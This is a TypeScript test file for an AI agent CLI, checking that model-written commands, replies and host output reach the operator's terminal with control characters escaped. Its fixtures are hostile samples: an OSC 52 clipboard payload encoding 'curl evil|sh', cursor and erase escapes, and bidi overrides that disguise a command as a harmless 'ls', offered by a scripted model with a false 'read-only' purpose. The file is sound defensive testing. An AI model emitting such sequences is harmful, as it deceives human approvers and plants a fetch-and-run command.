import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApprovalListSchema, ExecResultLineSchema } from '../src/shared/protocol';
import { repoRoot } from './helpers/build';
import { startLlmServer, type LlmServer } from './fixtures/llm-server/index';

/**
 * Text an attacker controls reaches the operator's terminal only as visible escapes: a
 * model-written command and purpose in `fleetmind approvals`, the model's reply in `chat`,
 * host output in `exec`, audit subjects. The terminal must never receive ESC (OSC 52 writes
 * the clipboard, CSI moves the cursor and erases lines), a carriage return (overwrites the
 * line), an 8-bit C1 control (U+009B is a CSI) or a bidi override.
 */

/** What a terminal (or a page) acts on instead of showing. \n and \t are layout, allowed. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

/** The OSC 52 payload is `curl evil|sh` in base64: what the clipboard would have held. */
const OSC52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
/**
 * Printed raw, a terminal would copy the payload to the clipboard, go up a line, erase it,
 * return to column 0 and show `ls -l /tmp` as the command.
 */
const HOSTILE_COMMAND = `touch /tmp/fm-hostile-marker${OSC52}\x1b[1A\x1b[2K\rls -l /tmp \x9b2J #\u202e gnp.olleh`;
const HOSTILE_PURPOSE = `list the temp dir\x1b[2K\rRoutine, read-only check \u202eytefas`;

let llm: LlmServer;
const home = mkdtempSync(join(tmpdir(), 'fm-hostile-'));

beforeAll(async () => {
  llm = await startLlmServer({
    scenario: [
      { match: { toolResult: 'run_command' }, respond: { text: `Queued it.${OSC52}\x1b[1A\x1b[2K\rNothing to review \u202eok\x9b2J` } },
      { match: { lastUser: 'clean up the temp dir', hasToolResult: false }, respond: { tool_calls: [{ name: 'run_command', arguments: { command: HOSTILE_COMMAND, purpose: HOSTILE_PURPOSE } }] } },
    ],
  });
});
afterAll(async () => {
  await llm?.stop();
  rmSync(home, { recursive: true, force: true });
});

/** Asynchronous on purpose: `chat` talks to the scripted model served from this process. */
function fleetmind(...args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [join(repoRoot, 'bin', 'fleetmind'), ...args],
      { env: { ...process.env, FLEETMIND_HOME: home, OPENAI_BASE_URL: llm.baseURL, FLEETMIND_MODEL: 'gpt-4o-mini', OPENAI_API_KEY: '' }, timeout: 30_000, encoding: 'utf8' },
      (err, stdout, stderr) => resolve({ code: err ? ((err as { code?: number }).code ?? null) : 0, stdout, stderr }),
    );
  });
}

describe('hostile text on the terminal (real CLI, scripted model)', () => {
  it('fleetmind approvals shows a model-written command and purpose with every control character escaped', async () => {
    const chat = await fleetmind('chat', 'please clean up the temp dir');
    expect(chat.code, chat.stderr).toBe(0);
    // The model's reply and the approval notice: escaped, never raw.
    expect(chat.stdout).not.toMatch(RAW_CONTROL);
    expect(chat.stderr).not.toMatch(RAW_CONTROL);
    expect(chat.stdout).toContain('Queued it.\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[1A\\x1b[2K\\rNothing to review \\u202eok\\x9b2J');
    expect(chat.stderr).toContain('⏸ approval ');
    expect(chat.stderr).toContain('\\x1b]52;c;Y3VybCBldmlsfHNo\\x07');

    const list = await fleetmind('approvals');
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).not.toMatch(RAW_CONTROL);
    const lines = list.stdout.split('\n');
    // One line on screen is one command: the whole command, escapes visible, on the command line.
    const commandLine = lines.find((l) => l.startsWith('  command:'));
    expect(commandLine).toBe('  command:  touch /tmp/fm-hostile-marker\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[1A\\x1b[2K\\rls -l /tmp \\x9b2J #\\u202e gnp.olleh');
    expect(list.stdout).toMatch(/WARNING: +the command contains control or invisible characters/);
    // The purpose is labelled as the agent's claim, and escaped too.
    expect(lines.find((l) => l.startsWith('  purpose:'))).toBe(`  purpose:  (the agent's claim, not verified) "list the temp dir\\x1b[2K\\rRoutine, read-only check \\u202eytefas"`);
    // Reasons quote the command: escaped as well.
    expect(lines.find((l) => l.startsWith('  why:'))).toMatch(/invisible or control character/);

    // --json keeps the exact text (JSON escapes), and nothing raw reaches the terminal either.
    const json = await fleetmind('approvals', 'list', '--json');
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const [approval] = ApprovalListSchema.parse(JSON.parse(json.stdout)).approvals;
    expect(approval).toMatchObject({ command: HOSTILE_COMMAND, purpose: HOSTILE_PURPOSE });

    const audit = await fleetmind('audit', 'list');
    expect(audit.code, audit.stderr).toBe(0);
    expect(audit.stdout).not.toMatch(RAW_CONTROL);
    expect(audit.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsfHNo\\x07');

    const deny = await fleetmind('approvals', 'deny', approval!.id, '--reason', 'no');
    expect(deny.code, deny.stderr).toBe(0);
    expect(deny.stderr).not.toMatch(RAW_CONTROL);
    expect(deny.stderr).toContain(`denied ${approval!.id}: touch /tmp/fm-hostile-marker\\x1b]52;`);
  });

  it("fleetmind exec prints a host's OSC 52, cursor movement, CR and C1 output as visible escapes", async () => {
    // printf runs on the host and writes the raw bytes: ESC ] 52 ... BEL, ESC [ 1 A, ESC [ 2 K, CR, U+009B, RLO.
    const command = "printf 'safe\\n\\033]52;c;aGk=\\007\\033[1A\\033[2K\\rok\\tdone \\302\\233\\342\\200\\256x\\n'";
    const plain = await fleetmind('exec', '--hosts', 'localhost', '--', command);
    expect(plain.code, plain.stderr).toBe(0);
    expect(plain.stdout).not.toMatch(RAW_CONTROL);
    expect(plain.stderr).not.toMatch(RAW_CONTROL);
    // Lines and tabs of the output stay; everything else is shown.
    expect(plain.stdout).toContain('safe\n\\x1b]52;c;aGk=\\x07\\x1b[1A\\x1b[2K\\rok\tdone \\x9b\\u202ex\n');

    const json = await fleetmind('exec', '--hosts', 'localhost', '--json', '--', command);
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    // The exact bytes survive in JSON.
    expect(ExecResultLineSchema.parse(JSON.parse(json.stdout)).stdout).toBe('safe\n\x1b]52;c;aGk=\x07\x1b[1A\x1b[2K\rok\tdone \u009b\u202ex\n');
  });
});
